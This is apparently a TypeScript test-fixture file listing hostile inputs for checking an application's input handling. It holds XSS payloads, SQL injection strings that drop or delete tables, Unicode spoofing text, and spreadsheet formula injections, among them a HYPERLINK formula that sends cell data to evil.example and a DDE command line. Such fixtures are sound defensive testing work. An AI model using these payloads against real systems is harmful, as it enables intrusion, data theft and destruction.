/** What a script of ours that should never run would leave behind on the page. */
export const RAN = '__officeRan'

const RUN = `window.${RAN}=1`

/** Texts that run something, somewhere, where they are not taken for text (S22). */
export const ATTACK_TEXTS: readonly string[] = [
  `<script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `'><img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload=${RUN}>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<details open ontoggle=${RUN}>`,
  `<iframe srcdoc="<script>parent.${RAN}=1</script>">`,
  `<a href="javascript:${RUN}">open</a>`,
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<style>@import 'http://evil.example/x.css'</style>`,
  `';${RUN};//`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `<%= ${RUN} %>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `' or 1=1; drop table shop_order; --`,
  `Robert'); delete from audit_entry; --`,
  '\u202egnp.exe',
  '\u2066left\u2069 \u202dover\u202c',
  'a\u200bb\ufeffc',
  'e\u0301\u0301\u0301 𝕏 🛞 ﷽',
  '__proto__',
  'x'.repeat(180),
]

/** What a spreadsheet takes for a formula, by how it begins. */
export const FORMULA_TEXTS: readonly string[] = [
  '=1+1',
  '=HYPERLINK("http://evil.example?x="&A1,"open")',
  `=cmd|'/c calc'!A1`,
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1,1)',
]

/** Texts that are no text: a database or a parser gives up on them unless somebody says no first. */
export const BROKEN_TEXTS: readonly string[] = [
  'a\u0000b',
  '\u0000',
  '\ud800',
  'x'.repeat(5_000),
  'x'.repeat(100_000),
]
